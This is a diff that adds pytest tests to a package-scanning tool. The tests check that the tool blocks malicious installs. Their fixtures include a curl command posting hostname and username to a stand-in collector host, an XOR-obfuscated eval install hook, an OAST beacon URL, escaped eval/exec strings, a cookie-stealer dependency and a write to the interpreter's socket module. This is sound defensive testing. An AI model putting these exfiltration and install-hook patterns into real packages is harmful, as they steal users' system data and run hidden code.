@@ -15,8 +15,9 @@ import pytest
 from assay.corpus.interface import Task
 from assay.corpus.native import NativeCorpus
 from assay.mechanism.spec import TRACKS, Track
+from assay.records.observed import UNTRUSTED_NOTE, CapabilityRecord, EvidenceRecord, Observed
 from assay.runner.bundle import bundle_package
-from assay.runner.context import local_context
+from assay.runner.context import agent_observed, local_context
 from assay.runner.probe import Probe
 from assay.schema.mechanism_file import pinned
 from assay.schema.report import validate_report
@@ -651,3 +652,175 @@ def test_an_executable_cut_out_of_an_image_by_an_install_command_blocks(tmp_path
     report = _package(tmp_path, "png", {"setup.py": setup})
     assert _decision(report) == "BLOCK"
     assert "install_hook" in {f["category"] for f in report["findings"]}
+
+
+def _observed(
+    commands: list[str],
+    *,
+    reads: tuple[str, ...] = (),
+    writes: tuple[str, ...] = (),
+    dns: tuple[str, ...] = (),
+) -> dict[str, object]:
+    """`context.observed` exactly as the runner builds it from a detonation record."""
+
+    def cap(name: str, evidence: list[EvidenceRecord]) -> CapabilityRecord:
+        return CapabilityRecord(
+            capability=name,
+            group="g",
+            protection="p",
+            profiles=("baseline",),
+            evidence=tuple(evidence),
+        )
+
+    caps = []
+    if commands:
+        shell = [
+            EvidenceRecord(
+                event="exec", profile="baseline", source="trace", argv=("/bin/sh", "-c", c)
+            )
+            for c in commands
+        ]
+        caps.append(cap("EXEC_SHELL", shell))
+    if reads:
+        caps.append(
+            cap(
+                "READ_SECRET",
+                [
+                    EvidenceRecord(event="read", profile="baseline", source="trace", path=p)
+                    for p in reads
+                ],
+            )
+        )
+    if writes:
+        caps.append(
+            cap(
+                "WRITE_FILE",
+                [
+                    EvidenceRecord(event="write", profile="baseline", source="trace", path=p)
+                    for p in writes
+                ],
+            )
+        )
+    observed = Observed(
+        track=Track.PACKAGES,
+        capabilities=tuple(caps),
+        gated={},
+        profiles=(),
+        events={"execs": tuple(commands), "dns": dns},
+        notes=(),
+        complete=True,
+        interference=(),
+        untrusted=UNTRUSTED_NOTE,
+    )
+    result = agent_observed(observed)
+    assert result is not None
+    return result
+
+
+def _package_dir(tmp_path: Path, files: dict[str, str]) -> Path:
+    art = tmp_path / "pkg"
+    for name, text in files.items():
+        (art / name).parent.mkdir(parents=True, exist_ok=True)
+        (art / name).write_text(text)
+    return art
+
+
+PLAIN_SETUP = {"setup.py": "from setuptools import setup\nsetup(name='helper', version='1.0')\n"}
+
+
+def test_a_detonated_shell_posting_the_host_and_user_out_blocks(tmp_path: Path) -> None:
+    """The code looks plain; the detonation shows what the install did."""
+    art = _package_dir(tmp_path, PLAIN_SETUP)
+    context = _context("packages", art, tmp_path / "ws")
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] == "ALLOW"
+    post = "curl -X POST https://collect.example.net/x -d h=$(hostname) -d u=$(whoami)"
+    context["observed"] = _observed([post], dns=("collect.example.net",))
+    report = REFERENCE.agent_main(context)
+    assert report["verdict"]["decision"] == "BLOCK"
+    assert report["findings"][0]["category"] == "exfiltration"
+
+
+def test_a_package_manager_reading_its_own_config_is_not_held_against_the_package(
+    tmp_path: Path,
+) -> None:
+    art = _package_dir(
+        tmp_path, {"package.json": '{"name": "lib", "scripts": {"prepare": "npm run build"}}'}
+    )
+    context = _context("packages", art, tmp_path / "ws")
+    context["observed"] = _observed(["npm run build"], reads=("~/.npmrc",))
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] == "ALLOW"
+    context["observed"] = _observed(["node index.js"], reads=("~/.npmrc",))
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] != "ALLOW"
+
+
+def test_rewriting_the_interpreter_at_install_blocks(tmp_path: Path) -> None:
+    art = _package_dir(tmp_path, PLAIN_SETUP)
+    context = _context("packages", art, tmp_path / "ws")
+    context["observed"] = _observed([], writes=("/usr/lib/python3.11/socket.py",))
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] == "BLOCK"
+    context["observed"] = _observed([], writes=("./build/lib/helper.py",))
+    assert REFERENCE.agent_main(context)["verdict"]["decision"] == "ALLOW"
+
+
+# "eval", "exec", "comp" spelled in escapes: in a module that installs, and in a test suite.
+ESCAPED_LETTERS = "\n".join(
+    (
+        "f = getattr(__builtins__, '\\x65\\x76\\x61\\x6c')",
+        "g = '\\x65\\x78\\x65\\x63'",
+        "h = '\\x63\\x6f\\x6d\\x70'",
+    )
+)
+INSTALL_HOOK_EVAL = """from setuptools import setup
+from setuptools.command.install import install
+
+class Install(install):
+    def run(self):
+        blob, key, code = "Q@B", "1234", ""
+        for i, c in enumerate(blob):
+            code += chr(ord(c) ^ ord(key[i % len(key)]))
+        eval(compile(code, "<string>", "exec"))
+        install.run(self)
+
+setup(name="helper", cmdclass={"install": Install})
+"""
+
+
+@pytest.mark.parametrize(
+    ("files", "flagged"),
+    [
+        ({"setup.py": INSTALL_HOOK_EVAL}, True),
+        ({**PLAIN_SETUP, "helper/beacon.py": "URL = 'https://abc.oast.fun/x'\n"}, True),
+        ({**PLAIN_SETUP, "tests/test_urls.py": "URL = 'https://abc.oast.fun/x'\n"}, False),
+        (
+            {
+                **PLAIN_SETUP,
+                "helper/x.py": ESCAPED_LETTERS,
+            },
+            True,
+        ),
+        (
+            {
+                **PLAIN_SETUP,
+                "tests/test_codec.py": ESCAPED_LETTERS,
+            },
+            False,
+        ),
+        (
+            {"setup.py": "setup(install_requires=['browser_cookie3'])\n"},
+            True,
+        ),
+    ],
+    ids=[
+        "install-hook-eval",
+        "collector",
+        "collector-in-tests",
+        "escaped-letters",
+        "test-vectors",
+        "stealer-deps",
+    ],
+)
+def test_package_code_read_where_detonation_cannot_reach(
+    files: dict[str, str], flagged: bool, tmp_path: Path
+) -> None:
+    report = _run("packages", _package_dir(tmp_path, files), tmp_path)
+    assert (report["verdict"]["decision"] != "ALLOW") is flagged, report["verdict"]
